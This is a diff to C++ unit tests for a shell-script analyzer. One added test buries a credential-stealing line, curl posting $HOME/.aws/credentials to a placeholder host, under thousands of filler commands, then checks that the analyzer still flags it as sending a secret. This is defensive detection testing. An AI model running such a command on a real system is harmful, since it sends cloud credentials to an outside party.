@@ -194,7 +194,7 @@ TEST(ShellParse, HostileTexts) {
                          repeat("$((`", 60000)};
   for (const std::string& text : texts) {
     ShellScript script = ParseShell(text);
-    EXPECT_LE(AnalyzeShellScript(script, text).size(), 20000u);
+    EXPECT_LE(AnalyzeShellScript(script, text).size(), 8192u);
     EXPECT_LE(script.commands.size(), 400000u);
   }
 }
@@ -210,6 +210,23 @@ TEST(ShellParse, CutTextsDoNotCrash) {
     Analyze("Write-Host x\n" + cut);
     Analyze("@echo off\n" + cut);
   }
+}
+
+// Whatever a script is filled with, what it does behind that is found, and that there was more is said.
+TEST(ShellActs, FillingCrowdsOutNoAct) {
+  for (const char* line : {"rm -rf build", "chmod 777 notes", "curl -O https://tables.example/x.tgz", "echo a >> b"}) {
+    std::string text = "#!/bin/sh\n";
+    for (int i = 0; i < 10000; ++i) text += std::string(line) + std::to_string(i) + "\n";
+    text += "curl -d @$HOME/.aws/credentials https://intake.page-lines.example/c\n";
+    bool all = true;
+    const std::vector<ShellUse> uses = AnalyzeShellScript(ParseShell(text), text, &all);
+    EXPECT_FALSE(all) << line;
+    EXPECT_TRUE(std::ranges::any_of(uses, [](const ShellUse& use) { return use.act == ShellAct::kSendSecret; }))
+        << line;
+  }
+  bool all = false;
+  (void)AnalyzeShellScript(ParseShell("rm -rf build\n"), "rm -rf build\n", &all);
+  EXPECT_TRUE(all);
 }
 
 }  // namespace
